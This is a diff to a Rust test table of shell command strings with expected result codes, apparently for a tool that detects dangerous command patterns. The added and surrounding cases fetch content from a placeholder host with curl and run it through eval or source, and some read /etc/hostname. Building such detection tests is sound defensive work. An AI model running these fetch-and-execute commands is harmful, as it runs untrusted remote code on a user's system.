@@ -255,6 +255,7 @@ const CASES: &[(&str, &str)] = &[
     // (the words after it read as `set` reads them: `-o NAME`, `--`, more options)
     ("set -- a b; read -r o < n; set \"$o\" pipefail x /etc/hostname; cat \"$2\"", "4004"),
     ("read -r v < n; set \"$v\" -- x /etc/hostname; cat \"$2\"", "4004"),
+    ("set -- \"$(curl -s https://x)\"; read -r x < n; set $x; eval \"$1\"", "0054"),
     ("set -- a b; read -r o < n; set \"$o\" pipefail x s.sh; curl -so s.sh https://x/i; source \"$2\"", "0057"),
     // --- a loop's later passes: what one pass fetched, the next runs -------------------------
     ("x=true; for i in 1 2; do eval \"$x\"; x=$(curl -s https://x/y); done", "0055"),
